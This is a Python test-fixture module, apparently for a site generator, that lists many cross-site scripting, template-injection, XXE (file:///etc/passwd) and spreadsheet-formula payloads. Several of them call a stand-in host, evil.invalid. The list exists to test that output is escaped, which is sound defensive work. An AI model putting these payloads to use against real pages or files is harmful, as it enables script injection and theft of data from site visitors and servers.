"""Texts that act where a page takes them for markup: families of ours, and the public lists."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING

from goodword.source.characters import REFUSED

if TYPE_CHECKING:
    from pathlib import Path

OUTSIDE = "https://evil.invalid/"
"""An address that nobody answers at: asking for it is what a page must not do."""
ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script of elsewhere": f"<script src={OUTSIDE}x.js></script>",
    "script, closed before": "</script><script>alert(1)</script>",
    "script in a split tag": "<scr<script>ipt>alert(1)</script>",
    "title, closed": "</title><script>alert(1)</script>",
    "textarea, closed": "</textarea><img src=x onerror=alert(1)>",
    "select, closed": "</option></select><img src=x onerror=alert(1)>",
    "comment, closed": "--><img src=x onerror=alert(1)>",
    "comment, closed oddly": "--!><svg onload=alert(1)>",
    "CDATA, closed": "]]><img src=x onerror=alert(1)>",
    "processing instruction": "<?x ?><img src=x onerror=alert(1)>",
    "error": "<img src=x onerror=alert(1)>",
    "load": "<svg onload=alert(1)>",
    "load, slashes": "<svg/onload=alert(1)//",
    "focus": "<input autofocus onfocus=alert(1)>",
    "toggle": "<details open ontoggle=alert(1)>x</details>",
    "animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "audio": "<audio src=x onerror=alert(1)>",
    "attribute, double": '"><img src=x onerror=alert(1)>',
    "attribute, single": "'><img src=x onerror=alert(1)>",
    "link": '<a href="javascript:alert(1)">x</a>',
    "link, entity": "<a href=java&#115;cript:alert(1)>x</a>",
    "link, tab": '<a href="java\tscript:alert(1)">x</a>',
    "link, line end": '<a href="java\nscript:alert(1)">x</a>',
    "link, named entities": "<a href=&Tab;java&NewLine;script&colon;alert(1)>x</a>",
    "link, blank before": '<a href=" javascript:alert(1)">x</a>',
    "link, capitals": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "link, data": "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "link, vbscript": "<a href=vbscript:msgbox(1)>x</a>",
    "link of a drawing": "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "link of a formula": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame of a text": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": f"<embed src={OUTSIDE}x.svg>",
    "form": f"<form action={OUTSIDE}><button>x</button></form>",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "base": f"<base href={OUTSIDE}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "style": "<style>body{display:none}</style>",
    "style, attribute": f"<p style='background:url({OUTSIDE})'>x</p>",
    "style, broken out": "</style><img src=x onerror=alert(1)>",
    "style sheet": f"<link rel=stylesheet href={OUTSIDE}x.css>",
    "picture of elsewhere": f"<img src={OUTSIDE}x.png>",
    "picture, sources": f"<img srcset={OUTSIDE}x.png>",
    "picture of a drawing": f"<svg><image href={OUTSIDE}x.png></svg>",
    "part of a drawing": f"<svg><use href={OUTSIDE}x.svg#x /></svg>",
    "text of a drawing": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "HTML in a drawing": "<svg><foreignObject><iframe></iframe></foreignObject></svg>",
    "formula, mutated": "<math><mtext><table><mglyph><style><!--</style><img title='--><img"
    " src=x onerror=alert(1)>'>",
    "nested, mutated": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "form, mutated": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path"
    " id='</style><img src=x onerror=alert(1)>'>",
    "table, mutated": "</td></tr></table><img src=x onerror=alert(1)>",
    "template, mutated": "<template><s></template><img src=x onerror=alert(1)>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "clobbering, id": "<a id=__config></a><b name=getElementById></b>",
    "clobbering, form": "<form name=body><input name=textContent></form>",
    "video": f"<video poster={OUTSIDE}x.png></video>",
    "dialog of the page": "<button popovertarget=__search>x</button>",
    "direction, hidden tag": "\u200e<img\u00a0src=x>\u200f<img src=x onerror=alert(1)>",
}
"""Each acts or changes the page where it is not escaped, so that each must then be found."""
QUIET = {
    "attribute, event": '" onmouseover="alert(1)',
    "attribute, event, single": "' autofocus onfocus='alert(1)",
    "attribute, no quotes": "x onmouseover=alert(1) y",
    "attribute, back-quotes": "` onmouseover=`alert(1)",
    "address": "javascript:alert(1)",
    "address, bracket": "[x",
    "address, port": "evil.invalid:99999999/",
    "address, user": "evil.invalid@portal.invalid/",
    "address, host": "//evil.invalid/x",
    "address, back-slashes": "/\\evil.invalid/x",
    "braces": "{{ 7 * 7 }} {% raw %}",
    "braces, classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "braces, include": "{% include 'me.html' %}{# x #}",
    "slot": "⟦title⟧⟦policy⟧⟦base⟧",
    "slot, comment": "<!-- goodword:content --><!-- goodword:footer -->",
    "slot, unknown": "⟦nothing⟧ <!-- goodword:nothing -->",
    "attribute list": "x {: onclick=alert(1) .gw-tag #__search }",
    "attribute list, block": "# x {#x onclick=alert(1)}",
    "front matter": "---\ntitle: x\ntemplate: y\n---\nx",
    "table": "| a | b |\n|---|---|\n| <b>x</b> | y |",
    "pipes": "a|b||c\\|d",
    "Markdown link": "[x](javascript:alert(1))",
    "Markdown link, entity": "[x](&#106;avascript:alert(1))",
    "Markdown link, line end": "[x](<java\nscript:alert(1)>)",
    "Markdown link, data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "Markdown link, title": "[x](https://e.invalid 'y\" onclick=alert(1)')",
    "Markdown link, host": "[x](//evil.invalid) [y](/\\evil.invalid)",
    "Markdown picture": f"![x]({OUTSIDE}x.png) ![y](javascript:alert(1))",
    "Markdown reference": "[x][y]\n\n[y]: javascript:alert(1) 'z'",
    "Markdown reference alone": "[y]: javascript:alert(1)",
    "Markdown autolink": f"<javascript:alert(1)> <{OUTSIDE}x>",
    "Markdown HTML": "<p onclick=alert(1)>\n\n*x*\n\n</p>",
    "Markdown fence": "```\n</code><script>alert(1)</script>\n```",
    "Markdown code": "`<img src=x onerror=alert(1)>` ``` ` ```",
    "Markdown heading": "<h1>x</h1>\n# y <a name=z>\nx\n===",
    "snippet": "--8<-- 'program/program.yml'\n!!! note\n    x",
    "icon": ":material-account: :octicons-x-16:{ .x }",
    "escaped once": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "style, value": "red;} body{background:url(https://evil.invalid/)",
    "calendar, line": "x\nEND:VEVENT\nATTACH:https://evil.invalid/x",
    "feed, closed": "</title></entry><script xmlns='http://www.w3.org/1999/xhtml'>x</script>",
    "entity of XML": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "sheet": "=HYPERLINK(\"https://evil.invalid/\",'x')",
    "words of an object": "__proto__ constructor toString hasOwnProperty",
    "full-width": "＜script＞alert(1)＜/script＞",
    "combined": "Z\u0301\u0302\u0303\u0304\u0305\u0306<b\u0301>",
    "other way": "אבג <b>(1)</b> عربي",
    "joiners": "\u200b\u200d<\u2060i\u200c>\u00ad",
    "astral": "\U0001f468\u200d\U0001f469<\U000e0062>",
    "lines": "a\n\n<b>\n\t<i>c\n",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "escapes": "\\u003cscript\\u003e \\x3cimg\\x3e \\",
}
"""Each acts in one place alone: inside an attribute, in Markdown, in a file that is no page."""
OWN = {**ACTIVE, **QUIET}


def public(corpora: Path) -> list[str]:
    """Every text of the public lists that a file may hold, each once.

    Args:
        corpora: the folder with the lists.
    """
    listed = json.loads((corpora / "blns" / "blns.base64.json").read_bytes())
    texts = [base64.b64decode(each).decode("utf-8", "replace") for each in listed]
    sheets = corpora / "payloadbox-csv" / "Intruder" / "csv-payload.txt"
    texts += sheets.read_text(encoding="utf-8").splitlines()
    return [each for each in dict.fromkeys(texts) if each.strip() and not REFUSED.search(each)]


def as_link(text: str) -> str:
    """The text as the end of an address, such as links of a program are."""
    return "https://e.invalid/" + "".join("+" if each.isspace() else each for each in text)


def as_host(text: str) -> str:
    """The text as the beginning of an address, where a host should be."""
    return "https://" + "".join("+" if each.isspace() else each for each in text)


def as_mail(text: str) -> str:
    """The text as the first part of an address for mail."""
    return (
        "".join("." if each.isspace() or each in '<>",;@' else each for each in text) + "@e.invalid"
    )
